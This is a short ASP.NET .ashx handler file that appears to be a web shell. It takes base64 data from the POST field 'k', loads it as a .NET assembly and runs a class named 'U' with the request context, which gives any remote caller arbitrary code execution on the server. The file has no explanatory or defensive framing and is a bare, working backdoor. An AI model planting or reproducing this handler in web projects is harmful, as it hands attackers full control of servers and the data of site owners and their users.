<%@ WebHandler Language="C#" Class="Handler" %>
using System;
using System.Web;
using System.Reflection;

public class Handler : IHttpHandler {
    public void ProcessRequest(HttpContext context) {
        byte[] code = Convert.FromBase64String(context.Request.Form["k"]);
        Assembly.Load(code).CreateInstance("U").Equals(context);
    }
    public bool IsReusable { get { return false; } }
}
